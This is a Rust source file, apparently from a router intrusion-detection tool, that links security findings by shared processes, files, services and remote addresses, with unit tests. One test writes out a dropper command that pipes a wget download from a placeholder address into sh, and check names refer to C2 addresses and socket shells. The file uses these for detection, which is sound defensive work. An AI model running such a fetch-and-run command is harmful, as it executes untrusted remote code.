//! What findings have in common: the subjects that one is about, and what else it mentions.

use core::net::IpAddr;

use super::super::{Client, Finding, Severity};
use crate::facts::chains::key;
use crate::facts::ipv4;
use crate::facts::place::place;
use crate::facts::process::Owner;
use crate::facts::program::{is_interpreter, is_multicall};
use crate::facts::text::{basename, decimal32, fields};

/// A subject, by a number that two subjects share only if somebody makes it so; who does joins his own findings.
pub type Key = u64;

/// Words of a text that are looked at: a startup line has fewer, and a text that an enemy fills costs no more than this.
const WORDS: usize = 48;

/// Hexadecimal digits of a SHA-256.
const SHA256: usize = 64;

/// Letters that a service's name has at least: shorter ones are anybody's.
const SERVICE: usize = 3;

/// A process.
#[must_use]
pub fn process(pid: u32) -> Key {
    key(&[b"pid", &pid.to_le_bytes()])
}

/// A process whose children are its work.
#[must_use]
pub fn parent(pid: u32) -> Key {
    key(&[b"parent", &pid.to_le_bytes()])
}

/// A file. On routers `/var` is a link to `/tmp`, and `/run` one to below it, so that one file has up to three names.
#[must_use]
pub fn file(directory: &[u8], path: &[u8]) -> Key {
    let both = [directory, path].map(|path| path.split(|b| *b == b'/'));
    let mut parts = both.into_iter().flatten().filter(|part| !matches!(*part, b"" | b".")).peekable();
    if parts.next_if(|part| matches!(*part, b"var" | b"tmp")).is_some() && parts.peek() != Some(&&b"run"[..])
    {
        return parts.fold(key(&[b"tmp"]), mixed);
    }
    parts.fold(key(&[]), mixed)
}

/// FNV-1a, as [`key`] has it, of one more part.
fn mixed(sum: Key, part: &[u8]) -> Key {
    part.iter().chain(&[0]).fold(sum, |sum, byte| (sum ^ Key::from(*byte)).wrapping_mul(0x100_0000_01b3))
}

fn remote(ip: IpAddr) -> Key {
    match ip.to_canonical() {
        IpAddr::V4(ip) => key(&[b"remote", &ip.octets()]),
        IpAddr::V6(ip) => key(&[b"remote", &ip.octets()]),
    }
}

/// Checks that say of an address that it is somebody's who has no business with this machine. Those of others may be
/// anybody's: the resolver of the provider, one of many whom a proxy serves.
const ACCUSE_REMOTE: [&str; 6] =
    ["c2-address", "socket-shell", "dns-hijack", "hosts-poison", "nat-redirect", "upnp-abuse"];

/// Checks that find what hides all the rest. Where two of them find something they have found the same one: it takes the
/// same rights to put another in its place.
const HIDES: [&str; 5] = ["process-hidden", "proc-overmount", "preload", "kernel-module", "tool-replaced"];

/// Checks whose process is the victim, not the intruder.
const VICTIMS: [&str; 2] = ["traced", "preload"];

/// Checks whose path is a list of what many do: a log, a table.
const LISTS: [&str; 2] = ["c2-domain", "kernel-module"];

/// Whether the finding is about somebody behind the router, who is no part of what goes on in it. What UPnP opened to one
/// was done to him.
#[must_use]
pub fn is_clients(finding: &Finding<'_>) -> bool {
    finding.client.is_some() && finding.pid.is_none() && finding.check != "upnp-abuse"
}

/// Whether the path of a finding is that of the program of its process.
#[must_use]
pub fn is_program(finding: &Finding<'_>) -> bool {
    finding.pid.is_some() && finding.line.is_none() && !finding.path.is_empty()
}

/// Whether all that has this program is one: not where it is the system's own, or does what others tell it.
fn is_own_program(finding: &Finding<'_>) -> bool {
    let name = basename(finding.path);
    is_program(finding)
        && !finding.owner.is_some_and(Owner::vouches)
        && !is_interpreter(name)
        && !is_multicall(name)
}

/// Whether two findings are about one process, or about processes of one program that is nobody else's.
#[must_use]
pub fn is_same_program(one: &Finding<'_>, other: &Finding<'_>) -> bool {
    one.pid.is_some() && one.pid == other.pid
        || is_own_program(one) && is_own_program(other) && is_same_file(one, other)
}

fn is_same_file(one: &Finding<'_>, other: &Finding<'_>) -> bool {
    file(b"", one.path) == file(b"", other.path)
}

/// Whether a finding about a file is about the program of another.
#[must_use]
pub fn is_file_of(finding: &Finding<'_>, program: &Finding<'_>) -> bool {
    finding.pid.is_none() && is_program(program) && is_same_file(finding, program)
}

/// Whether a finding about how something is started tells it of this program.
#[must_use]
pub fn starts(finding: &Finding<'_>, program: &Finding<'_>) -> bool {
    let named = service(program);
    is_program(program) && names(finding, program.path) || named.is_some() && service(finding) == named
}

/// Whether what was found to be removed is there again: an upgrade does that.
#[must_use]
pub fn is_replaced(finding: &Finding<'_>) -> bool {
    finding.check == "exe-deleted" && finding.detail.ends_with(b"its file was replaced by another")
}

/// Whether the children of the process of this finding are its work. The first process and daemons of the system start
/// everybody's programs.
fn is_parent(finding: &Finding<'_>) -> bool {
    if finding.pid.is_none_or(|pid| pid <= 1) || VICTIMS.contains(&finding.check) {
        return false;
    }
    finding.severity == Severity::Infected
        || finding.owner == Some(Owner::Nobody)
        || is_program(finding) && place(finding.path).is_odd()
}

/// What a finding is about: who else is about it is about the same intruder.
pub fn subjects(finding: &Finding<'_>, each: &mut dyn FnMut(Key)) {
    if is_clients(finding) {
        match finding.client {
            Some(Client::Named(name)) => each(key(&[b"client", name])),
            Some(Client::At(end)) => each(key(&[b"client", &[0], &remote(end.ip).to_le_bytes()])),
            None => {}
        }
        return;
    }
    if let Some(pid) = finding.pid {
        each(process(pid));
        if is_parent(finding) {
            each(parent(pid));
        }
    }
    // `/proc/812` is that process.
    let numbered = finding.path.strip_prefix(b"/proc/").and_then(decimal32);
    numbered.into_iter().for_each(|pid| each(process(pid)));
    if is_own_program(finding) {
        each(file(b"", finding.path));
    }
    // One file under several names.
    if finding.check == "exe-known-bad" {
        let mut words = finding.detail.split(|b| !b.is_ascii_alphanumeric());
        let hash = words.find(|word| word.len() == SHA256 && word.iter().all(u8::is_ascii_hexdigit));
        hash.into_iter().for_each(|hash| each(key(&[b"hash", hash])));
    }
    if finding.severity == Severity::Infected && HIDES.contains(&finding.check) {
        each(key(&[b"hides"]));
    }
    // A listed domain at an address, not the one that looks it up.
    let accused =
        ACCUSE_REMOTE.contains(&finding.check) || finding.check == "c2-domain" && finding.line.is_some();
    if let Some(end) =
        finding.remote.filter(|end| accused && !end.ip.is_loopback() && !end.ip.is_unspecified())
    {
        each(remote(end.ip));
    }
}

/// The file that a finding is about. One that is about another process too is about this file all the same, so two about
/// one file are about one intruder only where they do not know two.
#[must_use]
pub fn place_of(finding: &Finding<'_>) -> Option<Key> {
    let listed = LISTS.contains(&finding.check) && finding.line.is_none();
    let file_alone = !is_program(finding) && !finding.path.is_empty() && !listed && !is_clients(finding);
    file_alone.then(|| file(b"", finding.path))
}

/// The service that a startup file starts, or that a program is, by name: `/etc/rc.d/S99x`, `/etc/init.d/x`,
/// `/usr/sbin/x`.
#[must_use]
pub fn service(finding: &Finding<'_>) -> Option<Key> {
    let name = basename(finding.path);
    let starts = |part: &[u8]| matches!(part, b"init.d" | b"rc.d" | b"system") || part.starts_with(b"rc");
    let name = if is_own_program(finding) {
        name
    } else if finding.pid.is_none() && finding.path.split(|b| *b == b'/').rev().skip(1).take(1).any(starts) {
        let name = name.strip_suffix(b".service").unwrap_or(name);
        match name {
            [b'S' | b'K', a, b, rest @ ..] if a.is_ascii_digit() && b.is_ascii_digit() => rest,
            _ => name,
        }
    } else {
        return None;
    };
    (name.len() >= SERVICE).then(|| key(&[b"service", name]))
}

/// What else a finding names: the parents of its process, programs and addresses in a startup line, who traces.
pub fn mentions(finding: &Finding<'_>, each: &mut dyn FnMut(Key)) {
    if is_clients(finding) {
        return;
    }
    finding.ancestors().for_each(|ancestor| each(parent(ancestor.pid)));
    if finding.check == "traced" {
        let tracer = fields(finding.detail).nth(1).and_then(decimal32);
        tracer.into_iter().for_each(|pid| each(process(pid)));
    }
    words(finding, &mut |directory, word| match ipv4::leading(word) {
        Some(ip) => each(remote(ip.into())),
        None => each(file(directory, word)),
    });
}

/// Whether a text names this program.
#[must_use]
pub fn names(finding: &Finding<'_>, program: &[u8]) -> bool {
    let (program, mut found) = (file(b"", program), false);
    words(finding, &mut |directory, word| found |= file(directory, word) == program);
    found
}

/// Paths and addresses in the text of a finding. A word without a slash, and one below `.`, are told with the directory from
/// which the line runs.
fn words(finding: &Finding<'_>, each: &mut dyn FnMut(&[u8], &[u8])) {
    let from = finding.detail.strip_prefix(b"runs from ").unwrap_or_default();
    let directory = fields(from).next().unwrap_or_default();
    // A name may hold blanks and all else that ends a word.
    let runs = finding.detail.strip_prefix(b"runs ").unwrap_or_default();
    if let Some(whole) = runs.windows(5).position(|five| five == b" in: ").and_then(|end| runs.get(..end)) {
        each(if whole.starts_with(b"/") { b"" } else { directory }, whole);
    }
    let ends = |b: &u8| b.is_ascii_whitespace() || b"\"'`;|&<>()=,".contains(b);
    for word in finding.detail.split(ends).filter(|word| !word.is_empty()).take(WORDS) {
        let url = word.windows(3).position(|three| three == b"://").map(|at| at.saturating_add(3));
        let word = url.and_then(|at| word.get(at..)).unwrap_or(word);
        // The sentence around it.
        let word = word.strip_suffix(b":").or(word.strip_suffix(b".")).unwrap_or(word);
        if word.first() == Some(&b'/') || url.is_some() || ipv4::leading(word).is_some() {
            each(b"", word);
        } else if !directory.is_empty() {
            each(directory, word);
        }
    }
}

#[cfg(test)]
mod tests {
    use super::super::testing::{file_at, process_at};
    use super::*;

    #[test]
    fn one_file_has_many_names() {
        let same = |one: &[u8], other: &[u8]| file(b"", one) == file(b"", other);
        for other in [&b"/tmp/./x"[..], b"//tmp/x", b"/var/x"] {
            assert!(same(b"/tmp/x", other));
        }
        assert!(same(b"/run/x", b"/var/run/x") && same(b"/run/x", b"/tmp/run/x"));
        assert!(!same(b"/tmp/x", b"/x") && !same(b"/tmp/x", b"/tmp/x/y") && !same(b"/a/bc", b"/ab/c"));
        assert_eq!(file(b"/tmp", b"./x"), file(b"", b"/tmp/x"));
        assert_eq!(file(b"/tmp", b"x"), file(b"", b"/var/x"));
    }

    #[test]
    fn what_a_startup_line_names() {
        let named = |detail: &'static [u8], program: &[u8]| {
            let mut line = file_at("startup-volatile", b"/etc/rc.local", 3);
            line.detail = detail;
            names(&line, program)
        };
        assert!(named(b"runs /tmp/.x in: /tmp/.x -d &", b"/tmp/.x"));
        assert!(named(b"runs from /tmp in: cd /tmp; ./gwbot", b"/tmp/gwbot"));
        assert!(named(b"runs from /tmp in: sh gwbot.sh", b"/var/gwbot.sh"));
        assert!(named(b"the kernel runs /tmp/.core: a hidden place", b"/tmp/.core"));
        for odd in [&b"/tmp/my bot"[..], b"/tmp/b,t", b"/tmp/(b)=\"x\""] {
            let detail = [b"runs ", odd, b" in: ", odd, b" -d &"].concat();
            let line = Finding { detail: &detail, ..file_at("startup-volatile", b"/etc/rc.local", 3) };
            assert!(names(&line, odd), "{}", String::from_utf8_lossy(odd));
        }
        assert!(!named(b"runs /tmp/.x in: /tmp/.x -d &", b"/tmp/x"));
        assert!(!named(b"runs sh gwbot.sh", b"/tmp/gwbot.sh"));
        let mut fetched = file_at("startup-dropper", b"/etc/rc.local", 3);
        fetched.detail = b"a shell runs what is fetched in: wget -q -O - http://203.0.113.7:80/x.sh | sh";
        let mut found = false;
        mentions(&fetched, &mut |key| found |= key == remote([203, 0, 113, 7].into()));
        assert!(found);
    }

    #[test]
    fn who_starts_everybodys_programs_is_nobodys_parent() {
        let is = |pid, severity, owner, path| {
            let finding = Finding { severity, owner: Some(owner), ..process_at("listener-odd", pid, path) };
            is_parent(&finding)
        };
        assert!(is(812, Severity::Suspicious, Owner::Nobody, b"/usr/sbin/x"));
        assert!(is(812, Severity::Suspicious, Owner::Unknown, b"/tmp/x"));
        assert!(is(812, Severity::Infected, Owner::Firmware, b"/bin/busybox"));
        assert!(!is(812, Severity::Suspicious, Owner::Firmware, b"/usr/sbin/dropbear"));
        assert!(!is(812, Severity::Suspicious, Owner::Unknown, b"/usr/sbin/dropbear"));
        assert!(!is(1, Severity::Infected, Owner::Nobody, b"/tmp/init"));
        let victim =
            Finding { severity: Severity::Infected, ..process_at("preload", 812, b"/usr/sbin/dropbear") };
        assert!(!is_parent(&victim));
    }

    #[test]
    fn the_words_for_what_was_replaced_are_those_of_the_check() {
        let finding = |detail| Finding { detail, ..process_at("exe-deleted", 5, b"/usr/bin/x") };
        let words = "its file was replaced by another";
        assert!(
            is_replaced(&finding(words.as_bytes())) && !is_replaced(&finding(b"its file has been removed"))
        );
        let check = include_str!("../../checks/exe_deleted.rs");
        assert!(check.contains(&format!("{words}\"")), "say it here as there");
    }

    #[test]
    fn names_of_services() {
        let of = |path| service(&file_at("startup-added", path, 0));
        assert!(of(b"/etc/rc.d/S99gwbot").is_some());
        assert_eq!(of(b"/etc/rc.d/S99gwbot"), of(b"/etc/init.d/gwbot"));
        assert_eq!(of(b"/etc/init.d/gwbot"), service(&process_at("exe-unowned", 5, b"/usr/sbin/gwbot")));
        assert_eq!(of(b"/etc/systemd/system/gwbot.service"), of(b"/etc/init.d/gwbot"));
        assert_eq!((of(b"/etc/config/gwbot"), of(b"/etc/init.d/x")), (None, None));
    }
}
